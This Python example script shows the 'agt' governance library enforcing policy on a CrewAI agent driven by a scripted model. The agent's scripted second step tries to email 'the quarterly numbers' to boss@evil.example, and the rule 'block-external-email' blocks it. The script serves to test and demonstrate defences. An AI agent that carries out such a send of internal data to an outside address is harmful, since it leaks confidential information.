"""A CrewAI crew governed by agt, offline: a scripted model, no network, no API key.

    pip install 'agt[crewai]'
    python examples/crewai_agent.py

The crew's one agent asks for the weather (allowed) and then tries to mail the figures to an outside
address (denied by the policy). The model is a scripted ``crewai.BaseLLM`` in CrewAI's ReAct text format;
it prints what it was told after each tool call, so you can see agt's denial reach the model.

The policy (examples/offline_policy.yaml), the plain tools and the CFO's keys come from examples/_offline.py.
"""

from __future__ import annotations

import json
import os

# No telemetry, no tracing, no version check (set before crewai is imported).
os.environ.update({"CREWAI_DISABLE_TELEMETRY": "true", "OTEL_SDK_DISABLED": "true",
                   "CREWAI_TRACING_ENABLED": "false", "CREWAI_DISABLE_VERSION_CHECK": "true"})

from crewai import Agent, BaseLLM, Crew, Task  # noqa: E402
from crewai.tools import tool  # noqa: E402

from _offline import RAN, get_weather, offline_governor, send_email  # noqa: E402
from agt.adapters.crewai import install  # noqa: E402
from agt.audit.log import select  # noqa: E402


class ScriptedLLM(BaseLLM):
    """Plays back a ReAct script; records the observation it is given after each tool call."""

    replies: list[str] = []
    observations: list[str] = []

    def call(self, messages, tools=None, callbacks=None, available_functions=None, from_task=None,
             from_agent=None, response_model=None):  # noqa: ANN001
        if isinstance(messages, list):
            for m in messages:
                content = str(m.get("content", ""))
                if m.get("role") == "assistant" and "Observation:" in content:
                    seen = content.rsplit("Observation:", 1)[1].strip()
                    if seen not in self.observations:
                        self.observations.append(seen)
        return self.replies.pop(0) if self.replies else "Thought: done\nFinal Answer: done"

    def supports_function_calling(self) -> bool:
        return False


def act(name: str, **args: object) -> str:
    return f"Thought: I should use {name}.\nAction: {name}\nAction Input: {json.dumps(args)}"


def main() -> None:
    with offline_governor("crewai") as env:  # examples/offline_policy.yaml and a signed audit log in a temp dir
        os.environ.setdefault("CREWAI_STORAGE_DIR", str(env.work / "crewai"))
        llm = ScriptedLLM(model="scripted", replies=[
            act("get_weather", city="Paris"),
            act("send_email", to="boss@evil.example", body="the quarterly numbers"),
            "Thought: the mail was refused by policy.\nFinal Answer: It is sunny in Paris; I could not send the mail.",
        ], observations=[])
        agent = Agent(role="Assistant", goal="Help the user", backstory="A careful assistant.", llm=llm,
                      tools=[tool("get_weather")(get_weather), tool("send_email")(send_email)],
                      allow_delegation=False, verbose=False)
        task = Task(description="Tell me the weather in Paris and mail the numbers to boss@evil.example.",
                    expected_output="One sentence.", agent=agent)
        crew = Crew(agents=[agent], tasks=[task], verbose=False)

        with install(env.governor):  # the one line that governs every CrewAI tool call in this process
            result = crew.kickoff()

        weather, mail = llm.observations[0], llm.observations[1]
        print(f"get_weather ran: {weather}")
        env.governor.audit.flush()
        rules = sorted({r["id"] for rec in select(env.audit_dir, kind="decision")
                        for r in rec["result"].get("reasons", [])})
        denied_by = "block-external-email" if "block-external-email" in mail else "?"
        print(f"send_email denied ({denied_by}); the model read: {mail}")
        print(f"send_email body ran: {'yes' if 'send_email' in RAN else 'no'}")
        print(f"audit rule ids: {', '.join(rules)}")
        print(f"final answer: {result.raw}")


if __name__ == "__main__":
    main()
